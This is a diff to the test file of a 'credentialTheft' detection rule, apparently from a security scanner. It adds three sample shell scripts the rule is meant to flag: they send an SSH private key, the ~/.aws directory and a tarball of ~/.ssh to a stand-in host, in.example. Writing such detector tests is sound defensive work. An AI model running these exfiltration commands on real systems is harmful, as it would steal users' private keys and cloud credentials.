@@ -109,8 +109,20 @@ testRule(credentialTheft, {
       severity: 'critical',
     },
     { of: 'a key that is only read', files: `${fs}fs.readFileSync(os.homedir() + '/.ssh/id_rsa')\n`, severity: 'high' },
+    ...[
+      'K=$(cat ~/.ssh/id_rsa | base64)\ncurl -s -d "k=$K" https://in.example/x',
+      'cp -r ~/.aws /tmp/r && cd /tmp/r && git init -q && git add . && git push https://x@in.example/r.git HEAD:main',
+      'tar czf /tmp/b.tgz ~/.ssh\ncurl -F f=@/tmp/b.tgz https://in.example/up',
+    ].map((text) => ({ of: text, files: { 'a.sh': `#!/bin/bash\n${text}\n` }, severity: 'critical' as const })),
   ],
   silent: [
+    {
+      of: 'one value out of a file, for the service that it belongs to',
+      files: {
+        'a.sh':
+          '#!/bin/bash\nKEY=$(grep API_KEY .env | cut -d= -f2)\ncurl -H "Authorization: Bearer $KEY" https://api.example/\n',
+      },
+    },
     {
       of: 'a digest of who and where somebody is',
       files: `${fs}import { createHash } from 'node:crypto';\nconst id = createHash('sha256').update(os.hostname() + os.userInfo().username).digest('hex');\n${post('{ id }')}`,
